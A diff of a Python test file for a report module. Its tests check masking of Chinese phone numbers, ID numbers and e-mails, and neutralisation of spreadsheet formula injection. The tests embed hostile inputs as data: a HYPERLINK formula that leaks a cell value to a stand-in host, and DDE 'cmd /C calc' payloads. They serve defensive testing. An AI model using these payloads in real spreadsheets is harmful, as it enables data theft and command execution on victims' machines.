@@ -50,6 +50,50 @@ def test_masking():
     assert report.mask_text("单号 213812341234") == "单号 213812341234"
 
 
+@pytest.mark.parametrize("written, masked", [
+    # mobiles as people write them
+    ("138 1234 5678", "138 **** 5678"), ("138-1234-5678", "138-****-5678"),
+    ("1381234-5678", "138****-5678"), ("+86 138 1234 5678", "+86 138 **** 5678"),
+    ("+8613812341234", "+86138****1234"), ("86-13812341234", "86-138****1234"),
+    ("0086 13812341234", "0086 138****1234"), ("(+86)13812341234", "(+86)138****1234"),
+    ("１３８１２３４５６７８", "１３８****５６７８"), ("电话：１３８－１２３４－５６７８", "电话：１３８－****－５６７８"),
+    ("tel13812341234.", "tel138****1234."),
+    # landlines with an area code
+    ("020-87654321", "020-****4321"), ("(0755)1234567", "(0755)***4567"),
+    ("（020）8765 4321", "（020）**** 4321"), ("0755-8765-4321", "0755-****-4321"),
+    ("+86 20 87654321", "+86 20 ****4321"),
+    # resident ID cards, 18 characters (last may be X) or the old 15 digits
+    ("身份证11010519491231002X", "身份证110***********002X"),
+    ("110105 19491231 002x", "110*** ******** 002x"), ("110105491231002", "110********1002"),
+    ("１１０１０５１９４９１２３１００２Ｘ", "１１０***********００２Ｘ"),
+    # e-mail addresses
+    ("邮箱 zhang.san@example.com", "邮箱 z***@example.com"), ("13812341234@139.com", "1***@139.com"),
+    ("ｚｈａｎｇ＠ｅｘａｍｐｌｅ．ｃｏｍ", "ｚ***＠ｅｘａｍｐｌｅ．ｃｏｍ"),
+])
+def test_masking_covers_every_common_written_form(written, masked):
+    assert report.mask_text(written) == masked
+    assert report.mask_text(masked) == masked  # masking twice changes nothing
+
+
+@pytest.mark.parametrize("text", ["单号 213812341234", "T201007010001", "2010-07-01 08:05", "10086",
+                                  "金额 1250.50 元", "共 12345678 次", "400-810-8888", "12:30 到 13:45",
+                                  "16.4 / 20 × 3.5 = 2.87 → 2.9", "第 2 季度 95.3%"])
+def test_masking_leaves_other_numbers_alone(text):
+    assert report.mask_text(text) == text
+
+
+def test_every_display_helper_masks():
+    phone, masked = "客户 138-1234-5678 投诉", "客户 138-****-5678 投诉"
+    assert masked in report.note(phone)._repr_html_()
+    cards = report.headline([{"label": phone, "value": "1", "detail": phone}], sentence=phone)
+    assert "1234" not in cards._repr_html_()
+    html = report.table(pd.DataFrame({"summary": [phone, None], "n": [3, 1]}),
+                        formats={"n": "int"}).to_html()
+    assert masked in html and "1234-" not in html and ">–<" in html  # the blank stays blank
+    assert report.record("", note=phone, names=[phone]) == {"note": masked, "names": [masked]}
+    assert report.record_table("", "t", pd.DataFrame({"s": [phone]}))["rows"] == [[masked]]
+
+
 def test_headline_escapes_and_validates():
     out = report.headline([{"label": "满意度", "value": "<b>95.3%</b>", "status": "good"}],
                           sentence="达标 <script>")._repr_html_()
@@ -113,3 +157,46 @@ def test_excluded_note_names_the_rows_set_aside():
     broken.attrs.update(excluded_rows=2, excluded_problems=["s.csv row 3: x", "s.csv row 9: y"])
     text = report.excluded_note(clean, broken, lang="en")._repr_html_()
     assert "2 rows of other branches" in text and "s.csv row 3: x; s.csv row 9: y" in text
+
+
+def test_excluded_note_names_total_rows_and_masks_quoted_cells():
+    survey = pd.DataFrame({"a": [1]})
+    survey.attrs["total_rows"] = ["s.csv row 4: 营业厅/hall '小计' is a total row; left out, not counted"]
+    text = report.excluded_note(survey, lang="en")._repr_html_()
+    assert "1 total or subtotal rows of the input files are left out and not counted" in text
+    assert "s.csv row 4: 营业厅/hall &#x27;小计&#x27;" in text
+    assert "合计/小计行，未计入任何数字" in report.excluded_note(survey)._repr_html_()
+    broken = pd.DataFrame({"a": [1]})
+    broken.attrs.update(excluded_rows=1,
+                        excluded_problems=["t.csv row 3, column opened_at: found '13912345678'"])
+    text = report.excluded_note(survey, broken, lang="en")._repr_html_()
+    assert "139****5678" in text and "13912345678" not in text and "total or subtotal" in text
+
+
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://x.example/?leak="&A1,"点此")', "+cmd|' /C calc'!A0",
+                                  "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
+                                  "\r=1+1", " =1+1"])
+def test_text_that_starts_like_a_formula_is_neutralised(text):
+    assert report.neutralise_formula(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", ["潮安", "-5", "+3.1%", "-0.25", "1,250", 12, -3.5, None, "a=b"])
+def test_numbers_and_plain_text_stay_as_they_are(value):
+    assert report.neutralise_formula(value) == value
+
+
+def test_safe_table_writes_text_as_text_and_numbers_as_numbers(tmp_path):
+    import openpyxl
+
+    df = pd.DataFrame({"unit": ["=HYPERLINK(\"http://x\")", "@SUM(A1)", "潮安 13812341234"],
+                       "total": [12.5, -3, 7], "rank": [1, 3, 2]})
+    safe = report.safe_table(df.rename(columns={"total": "=total"}))
+    assert safe["unit"].tolist() == ["'=HYPERLINK(\"http://x\")", "'@SUM(A1)", "潮安 138****1234"]
+    assert list(safe.columns) == ["unit", "'=total", "rank"]
+    assert df["unit"].iloc[0].startswith("=")  # the input is untouched
+    safe.to_excel(tmp_path / "t.xlsx", index=False)
+    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
+    cells = [c for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert [c.value for c in ws["B"][1:]] == [12.5, -3, 7]   # numeric cells, not text
+    assert all(c.data_type == "n" for c in ws["B"][1:])
